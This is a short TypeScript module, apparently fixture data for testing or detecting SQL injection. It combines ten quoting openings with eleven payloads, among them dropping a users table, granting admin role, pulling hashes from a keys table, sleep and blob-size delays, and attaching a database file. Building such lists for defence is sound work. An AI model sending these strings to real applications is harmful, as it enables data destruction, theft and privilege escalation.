/** Ways in which clients try to smuggle SQL: the usual openings, each with the usual payloads. */
const OPENINGS = ["'", '"', "`", "')", '")', "\\'", "%27", "1", "0x27", "'||'"] as const;
const PAYLOADS = [
  " OR 1=1 --",
  "; DROP TABLE users; --",
  " UNION SELECT hash FROM keys --",
  " AND 1=(SELECT COUNT(*) FROM keys) --",
  "; UPDATE users SET role='admin' --",
  " OR pg_sleep(5) --",
  " AND randomblob(500000000) --",
  "/**/OR/**/1=1#",
  " OR 'a'='a",
  "; ATTACH DATABASE '/tmp/x' AS x --",
  " LIMIT 1 OFFSET 1 --",
] as const;

export const injections: readonly string[] = OPENINGS.flatMap((opening) => PAYLOADS.map((payload) => opening + payload));
